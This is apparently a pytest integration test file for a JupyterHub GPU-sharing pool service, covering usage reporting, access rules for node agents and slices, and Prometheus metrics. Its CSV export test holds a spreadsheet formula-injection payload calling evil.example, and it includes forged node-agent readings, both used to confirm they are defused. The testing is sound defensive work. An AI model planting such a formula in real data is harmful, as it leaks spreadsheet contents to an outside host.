"""GPU utilization through a real JupyterHub and the real pool service on the local backend,
with the NVML stand-in playing the simulated GPUs: who may read ``api/usage`` (every ``by``),
the pool map, jobs and slices with their use now, readings posted only by the node agent,
the slice's server pid from the spawner, sentences for what cannot be read, and the Prometheus
exposition checked by promtool."""

import secrets
import shutil
import subprocess
import sys
import time

import pytest

import debian
from hubtest import running_hub
from jupyter_gpushare.text import format_usage
from jupyter_gpushare.usage.nvml_standin import write_script

GiB = 2**30
SPAWNER = secrets.token_hex(16)
AGENT = secrets.token_hex(16)
NODE9 = secrets.token_hex(16)  # the agent of one node, gpu-node-9, with a service of its own
BUILD_GPU = "GPU-SIMULATED-sim-build-0-0"

POOL_CONFIG = """
c = get_config()
c.PoolService.projects = {"vision": {"quota": 2, "groups": ["vision"]},
                          "nlp": {"quota": 2, "groups": ["nlp"]}}
c.PoolService.cycle_interval = 0.2
c.PoolService.grace_period = 2
c.LocalBackend.simulate_gpus = True
c.LocalBackend.simulated_nodes = 1
c.LocalBackend.simulated_gpus_per_node = 4
c.LocalBackend.env_keep = ["LANG", "LC_ALL"]
c.PoolService.build_nodes = {"sim-build-0": 1}
c.GPUUsage.sample_interval = 0.2
c.GPUUsage.idle_job_after = 1
c.GPUUsage.nvml_standin_script = "{dir}/standin.json"
c.GPUUsage.agent_nodes = {"gpushare-agent-node9": "gpu-node-9"}
"""

EXTRA = f"""
c.JupyterHub.services += [{{"name": "gpushare-spawner", "api_token": "{SPAWNER}"}},
                          {{"name": "gpushare-agent", "api_token": "{AGENT}"}},
                          {{"name": "gpushare-agent-node9", "api_token": "{NODE9}"}}]
c.JupyterHub.load_roles += [{{"name": "gpushare-clients", "services": ["gpushare-spawner",
                              "gpushare-agent", "gpushare-agent-node9"],
                              "scopes": ["access:services!service=gpushare"]}}]
"""

GROUPS = {"vision": ["alice", "carol"], "nlp": ["bob"]}
JOB = ("import os, time\nprint('pid', os.getpid(), 'gpus', os.environ['CUDA_VISIBLE_DEVICES'], "
       "flush=True)\ntime.sleep(600)\n")


@pytest.fixture(scope="module")
def hub(tmp_path_factory):
    d = tmp_path_factory.mktemp("usagehub")
    with running_hub(d, GROUPS, POOL_CONFIG.replace("{dir}", str(d)), EXTRA,
                     users=["alice", "bob", "carol", "admin"]) as hub:
        yield hub


@pytest.fixture(scope="module")
def world(hub):
    """alice's busy job, bob's idle job, a slice each (alice's server a real process), a
    process outside gpushare on the build GPU; the stand-in plays them."""
    jobs = {}
    for user, sm in (("alice", 90), ("bob", 1)):
        status, job = hub.api("POST", "api/jobs", user, {"gpus": 1, "source": JOB})
        assert status == 201, job
        jobs[user] = job
    found = {}
    for user, job in jobs.items():
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline:
            status, log = hub.api("GET", f"api/jobs/{job['id']}/logs", user)
            if status == 200 and "pid" in log:
                words = log.split()
                found[user] = (int(words[1]), words[3])
                break
            time.sleep(0.1)
    assert set(found) == {"alice", "bob"}, found
    servers = {u: subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)"])
               for u in ("alice", "bob")}
    stranger = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)"])
    slices = {}
    for user in ("alice", "bob"):
        status, s = hub.request("POST", hub.pool_url + "api/slices", SPAWNER,
                                {"user": user, "gpus": 0.25, "server": ""})
        assert status == 201, s
        status, s = hub.request("PATCH", hub.pool_url + f"api/slices/{s['id']}", SPAWNER,
                                {"pid": servers[user].pid})
        assert status == 200 and s["pid"] == servers[user].pid, s
        slices[user] = s
    script = hub.dir / "standin.json"
    write_script(script, {"processes": [
        {"pid": found["alice"][0], "gpu": found["alice"][1], "sm": 90, "memory": 4 * GiB},
        {"pid": found["bob"][0], "gpu": found["bob"][1], "sm": 1, "memory": GiB},
        {"pid": servers["alice"].pid, "gpu": BUILD_GPU, "sm": 20, "memory": 2 * GiB},
        {"pid": servers["bob"].pid, "gpu": BUILD_GPU, "sm": 0, "memory": GiB},
        {"pid": stranger.pid, "gpu": BUILD_GPU, "sm": 10, "memory": 11 * GiB}]})
    time.sleep(2.5)  # a dozen readings, and bob's job idle for longer than idle_job_after
    yield {"jobs": jobs, "slices": slices, "pids": found, "script": script}
    for proc in (*servers.values(), stranger):
        proc.kill()
        proc.wait()
    for user, job in jobs.items():
        hub.api("DELETE", f"api/jobs/{job['id']}", user)


def usage(hub, user, query):
    return hub.api("GET", f"api/usage?{query}", user)


def names(body, field):
    return sorted(r[field] for r in body["rows"])


def test_no_token_no_usage(hub):
    status, body = hub.api("GET", "api/usage")
    assert status == 403 and "token" in body["error"]


@pytest.mark.parametrize("by, field, seen", [
    ("project", "project", {"admin": ["nlp", "vision"], "alice": ["vision"], "carol": ["vision"],
                            "bob": ["nlp"]}),
    # a member sees the use of their projects' jobs by user (as api/jobs?project= shows them)
    ("user", "user", {"admin": ["alice", "bob"], "alice": ["alice"], "carol": ["alice"],
                      "bob": ["bob"]}),
    ("job", "job", {"admin": "both", "alice": "alice", "carol": "alice", "bob": "bob"}),
    ("slice", "slice", {"admin": "both", "alice": "alice", "carol": [], "bob": "bob"}),
])
def test_who_reads_which_usage_rows(hub, world, by, field, seen):
    ids = {"job": {u: j["id"] for u, j in world["jobs"].items()},
           "slice": {u: s["id"] for u, s in world["slices"].items()}}.get(by)
    for user, expected in seen.items():
        if expected == "both":
            expected = sorted(ids.values())
        elif isinstance(expected, str):
            expected = [ids[expected]]
        status, body = usage(hub, user, f"by={by}&since=1h")
        assert status == 200, body
        assert names(body, field) == expected, (user, body)


def test_usage_by_department_adds_up_its_projects(hub, world):
    """by=department: each project's rows in the department it belongs to now; a member
    sees only what their projects add to it, as by=project shows them."""
    assert hub.api("PUT", "api/departments/research", "admin",
                   {"quota": 2, "projects": ["vision"]})[0] == 200
    try:
        def by_project():
            return {r["project"]: r["allocated_gpu_seconds"]
                    for r in usage(hub, "admin", "by=project&since=1h")[1]["rows"]}

        # The pool reads the GPUs meanwhile (every 0.2 s), and GPU-seconds only grow: each
        # department's lies between its projects' just before and just after.
        before = by_project()
        status, body = usage(hub, "admin", "by=department&since=1h")
        after = by_project()
        assert status == 200 and body["by"] == "department", body
        rows = {r["department"]: r["allocated_gpu_seconds"] for r in body["rows"]}
        assert sorted(rows) == ["(no department)", "research"]
        assert before["vision"] <= rows["research"] <= after["vision"], (before, rows, after)
        assert before["nlp"] <= rows["(no department)"] <= after["nlp"], (before, rows, after)
        assert names(usage(hub, "bob", "by=department&since=1h")[1], "department") == \
            ["(no department)"]
        assert names(usage(hub, "alice", "by=department&since=1h")[1], "department") == \
            ["research"]
        shown = format_usage(body).splitlines()
        assert any(line.split()[:1] == ["DEPARTMENT"] for line in shown), shown
        assert any(line.startswith("research ") for line in shown), shown
    finally:
        hub.api("DELETE", "api/departments/research", "admin")


def test_gpus_are_for_admins_and_services_read_no_usage(hub, world):
    status, body = usage(hub, "admin", "by=gpu&since=1h")
    assert status == 200 and BUILD_GPU in names(body, "gpu")
    status, body = usage(hub, "alice", "by=gpu")
    assert status == 403 and body["error"].startswith("only admins can read usage by GPU")
    status, body = hub.request("GET", hub.pool_url + "api/usage", SPAWNER)
    assert status == 403 and "not by services" in body["error"]


@pytest.mark.parametrize("query, words", [
    ("by=team", "by must be one of project, department, user, job, slice, gpu"),
    ("since=yesterday", "since must be a time like 7d"),
    ("since=1h&until=2h", "since must be before until"),
    ("since=500d", "the window may be at most 400 days"),
    ("step=30s", "step must be whole minutes"),
    ("since=30d&step=1m", "more than 10000 points"),
    ("limit=0", "limit must be a whole number from 1 to 1000"),
    ("limit=%C2%B2", "limit must be a whole number from 1 to 1000"),  # '²'
    ("step=%C2%B2", "step must be whole minutes"),
    ("sort=size", "sort must be one of"),
    ("color=red", "unknown parameter(s) color"),
])
def test_bad_usage_queries_get_one_sentence(hub, query, words):
    status, body = usage(hub, "alice", query)
    assert status == 400 and words in body["error"], body


def test_figures_are_what_the_standin_plays(hub, world):
    status, body = usage(hub, "admin", "by=job&since=1h")
    rows = {r["job"]: r for r in body["rows"]}
    busy, idle = rows[world["jobs"]["alice"]["id"]], rows[world["jobs"]["bob"]["id"]]
    # earlier readings (before the script) saw no process: 0 % then, so at most 90 %
    assert 0.5 < busy["utilization"] <= 0.9 and idle["utilization"] <= 0.01
    assert idle["idle_ratio"] > 0.9 and busy["idle_ratio"] < 0.5
    assert set(body["pools"]) >= {"train", "build"}
    assert body["definitions"]["utilization"].startswith("utilized GPU-seconds")


def test_jobs_and_slices_show_their_use_now(hub, world):
    status, job = hub.api("GET", f"api/jobs/{world['jobs']['alice']['id']}", "alice")
    assert job["usage"]["sm_now"] == 0.9 and job["usage"]["memory_now_bytes"] == 4 * GiB
    assert not job["usage"]["idle"] and job["usage"]["idle_for_s"] is None
    status, job = hub.api("GET", f"api/jobs/{world['jobs']['bob']['id']}", "bob")
    assert job["usage"]["sm_now"] == 0.01 and job["usage"]["idle"]
    status, body = hub.api("GET", "api/slices", "alice")
    [mine] = body["slices"]
    assert mine["usage"]["sm_now"] == 0.8  # 20 % of the GPU is 80 % of a ¼ slice
    status, body = hub.api("GET", "api/jobs", "alice")
    assert body["jobs"][0]["usage"]["sm_now"] == 0.9


def test_the_pool_map_hides_other_peoples_names(hub, world):
    status, pool = hub.api("GET", "api/pool", "alice")
    assert pool["usage_source"] == "standin"
    build = next(g for g in pool["gpus"] if g["uuid"] == BUILD_GPU)
    assert build["held"] == 0.5 and build["outside"] == {"processes": 1,
                                                          "memory_bytes": 11 * GiB}
    holders = {h.get("user", "?"): h for h in build["holders"]}
    assert set(holders) == {"alice", "?"} and holders["?"]["kind"] == "slice"
    assert "GPU 0 of sim-build-0: 1 process outside gpushare, 11 GiB." in pool["usage_notes"]
    status, pool = hub.api("GET", "api/pool", "admin")
    build = next(g for g in pool["gpus"] if g["uuid"] == BUILD_GPU)
    assert sorted(h["user"] for h in build["holders"]) == ["alice", "bob"]


def test_readings_are_posted_only_by_the_agent(hub, world):
    reading = {"node": "gpu-node-9", "gpus": [{"uuid": "GPU-remote-0", "memory_total": GiB,
                                               "utilization": 30, "processes": [
                                                   {"pid": 7, "memory": 1, "sm": 30,
                                                    "owner": {"job": "j-nope", "attempt": 1}}],
                                               "held_by": [{"slice": "s-nope"}]}]}
    for token in (hub.token("alice"), hub.token("admin"), SPAWNER):
        status, body = hub.request("POST", hub.pool_url + "api/samples", token, reading)
        assert status == 403 and "only by the gpushare node agent" in body["error"]
    status, body = hub.request("POST", hub.pool_url + "api/samples", NODE9, reading)
    assert status == 202 and body == {"gpus": 1, "attributed": 0}  # claims it cannot confirm
    for bad, words in ((["x"], "must be a JSON object"),
                       ({"node": "", "gpus": []}, "node must name the machine"),
                       ({"node": "n", "gpus": [{"uuid": "G", "utilization": 101}]},
                        "gpus[0].utilization must be a number from 0 to 100"),
                       ({"node": "n", "gpus": [{"uuid": "G", "processes": [{"pid": "x"}]}]},
                        "gpus[0].processes[0].pid must be a whole number"),
                       ({"node": "n", "at": 1, "gpus": []}, "more than 5 minutes away"),
                       ({"node": "n", "gpus": [{"uuid": "G"}] * 65}, "at most 64 GPUs"),
                       ({"node": "n", "gpus": [], "extra": 1}, "unknown field(s) extra")):
        status, body = hub.request("POST", hub.pool_url + "api/samples", NODE9, bad)
        assert status == 400 and words in body["error"], (bad, body)


def test_a_node_agent_cannot_speak_for_another_node(hub, world):
    """The attack: one node's agent reports the build node's GPU idle, with alice's slice on
    it, so that her notebook is culled. Readings are bound to the node they come from."""
    alice = world["slices"]["alice"]
    idle = {"node": "sim-build-0", "gpus": [{"uuid": BUILD_GPU, "memory_total": GiB,
                                             "utilization": 0, "processes": [],
                                             "held_by": [{"slice": alice["id"]}]}]}
    status, body = hub.request("POST", hub.pool_url + "api/samples", NODE9, idle)
    assert status == 403, body
    assert body["error"] == ("the agent service 'gpushare-agent-node9' speaks only for node "
                             "gpu-node-9, not for sim-build-0")
    # The shared agent's one token is on every GPU node: it proves no node by itself, and
    # without Kubernetes to vouch for the agent's pod its readings are refused.
    status, body = hub.request("POST", hub.pool_url + "api/samples", AGENT, idle)
    assert status == 403, body
    assert "which node" in body["error"] and "c.GPUUsage.agent_nodes" in body["error"]
    # What the pool saw of the build GPU is its own reading, not the forged one.
    time.sleep(0.5)
    status, pool = hub.api("GET", "api/pool", "admin")
    build = next(g for g in pool["gpus"] if g["uuid"] == BUILD_GPU)
    holder = next(h for h in build["holders"] if h["user"] == "alice")
    assert holder["sm"] == pytest.approx(0.2, abs=0.01)


@pytest.mark.parametrize("method, path, body", [
    ("GET", "api/slices", None),
    ("POST", "api/slices", {"user": "alice", "gpus": 0.25, "server": ""}),
    ("PATCH", "api/slices/{bob}", {"pid": 1}),
    ("DELETE", "api/slices/{bob}", None),
])
def test_the_agents_token_is_refused_on_every_slice_route(hub, world, method, path, body):
    """The agent's token sits in a root pod on every GPU node: with it, no slice can be
    listed, reserved for anyone, re-attributed or released. Only the spawner's service may."""
    bob = world["slices"]["bob"]
    url = hub.pool_url + path.format(bob=bob["id"])
    for token in (AGENT, NODE9):
        status, answer = hub.request(method, url, token, body)
        assert status == 403, answer
        assert answer["error"] == ("only the hub's spawner (the JupyterHub service "
                                   "'gpushare-spawner') may list, reserve, change or release "
                                   "build slices")
    status, listed = hub.request("GET", hub.pool_url + "api/slices", SPAWNER)
    assert status == 200
    mine = {s["id"]: s for s in listed["slices"]}
    assert mine[bob["id"]]["pid"] == bob["pid"]
    assert sorted(s["user"] for s in listed["slices"]) == ["alice", "bob"]


def test_only_the_spawner_says_whose_server_a_slice_is(hub, world):
    slice_id = world["slices"]["alice"]["id"]
    status, body = hub.api("PATCH", f"api/slices/{slice_id}", "alice", {"pid": 1})
    assert status == 403
    for bad in ({"pid": "1"}, {"pid": 0}, {"pid": 1, "x": 2}, [1]):
        status, body = hub.request("PATCH", hub.pool_url + f"api/slices/{slice_id}", SPAWNER,
                                   bad)
        assert status == 400 and "notebook server's process id" in body["error"]
    status, body = hub.request("PATCH", hub.pool_url + "api/slices/s-nope", SPAWNER, {"pid": 5})
    assert status == 404


def test_the_metrics_pass_promtool(hub, world):
    if shutil.which("promtool") is None:
        debian.install("prometheus")  # promtool comes with it
    promtool = shutil.which("promtool")
    if promtool is None:
        pytest.skip("promtool is not installed (Debian: apt-get install prometheus, as root; "
                    "the test does it itself when run as root)")
    status, text = hub.api("GET", "metrics", "admin")
    assert status == 200
    for name in ("gpushare_gpu_utilization_ratio{", "gpushare_gpu_memory_used_bytes{",
                 'gpushare_project_gpu_seconds_total{kind="allocated",project="vision"}',
                 'gpushare_project_gpu_seconds_total{kind="utilized",project="vision"}',
                 'gpushare_jobs_idle{project="nlp"} 1.0'):
        assert name in text, name
    check = subprocess.run([promtool, "check", "metrics"], input=text, capture_output=True,
                           text=True)
    assert check.returncode == 0, check.stdout + check.stderr
    assert hub.api("GET", "metrics", "alice")[0] == 403


def test_what_cannot_be_read_is_one_sentence_in_the_pool(hub, world):
    script = world["script"]
    import json
    played = json.loads(script.read_text())
    write_script(script, {**played, "gpus": [{"uuid": "GPU-SIMULATED-sim-node-0-3",
                                              "lost_at": -1},
                                             {"uuid": BUILD_GPU, "mig": [
                                                 {"uuid": "MIG-b0", "memory_total": 10 * GiB}]}]})
    notes = _notes_soon(hub, "fallen off the bus")
    assert "GPU 3 of sim-node-0 has fallen off the bus (NVML: GPU is lost); nothing on it can be " \
           "measured until an administrator resets it." in notes
    assert "GPU 0 of sim-build-0 has MIG on: utilization not available on MIG; memory is " \
           "reported." in notes
    write_script(script, {**played, "library": False})
    notes = _notes_soon(hub, "no NVIDIA driver")
    assert all(n[0].isupper() and n.endswith(".") and "\n" not in n for n in notes)
    assert hub.api("GET", "api/jobs", "alice")[0] == 200  # the pool goes on
    write_script(script, played)
    _notes_soon(hub, "1 process outside gpushare")


def _notes_soon(hub, words, timeout=10):
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        status, pool = hub.api("GET", "api/pool", "admin")
        if any(words in n for n in pool["usage_notes"]):
            return pool["usage_notes"]
        time.sleep(0.2)
    raise AssertionError(f"no note with {words!r}: {pool['usage_notes']}")


EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_exported_cells_are_never_formulas(hub, world):
    """A user name a spreadsheet would evaluate (JupyterHub takes ``=HYPERLINK(...)`` from
    authenticators that let people choose names) comes back in every CSV export as text: a
    leading ``'``, which spreadsheets show as text and do not evaluate."""
    import csv
    import io
    status, s = hub.request("POST", hub.pool_url + "api/slices", SPAWNER,
                            {"user": EVIL, "gpus": 0.25, "server": ""})
    assert status == 201, s
    try:
        time.sleep(1)  # a few readings of the slice's holding
        for by, field in (("user", "user"), ("slice", "user")):
            status, text = usage(hub, "admin", f"by={by}&since=1h&format=csv")
            assert status == 200, text
            rows = list(csv.DictReader(io.StringIO(text)))
            cells = [r[field] for r in rows]
            assert "'" + EVIL in cells, (by, cells)
            for row in rows:  # no cell at all begins a formula
                assert not any(v[:1] in "=+@" or (v[:1] == "-" and not _number(v))
                               for v in row.values()), row
    finally:
        hub.request("DELETE", hub.pool_url + f"api/slices/{s['id']}", SPAWNER)


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
